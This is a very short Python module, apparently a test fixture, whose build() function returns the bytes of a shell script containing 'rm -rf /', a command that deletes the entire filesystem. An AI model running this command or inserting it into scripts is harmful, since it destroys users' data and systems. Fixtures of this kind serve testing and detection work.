"""A shell script."""


def build():
    return b"#!/bin/sh\nrm -rf /\n"
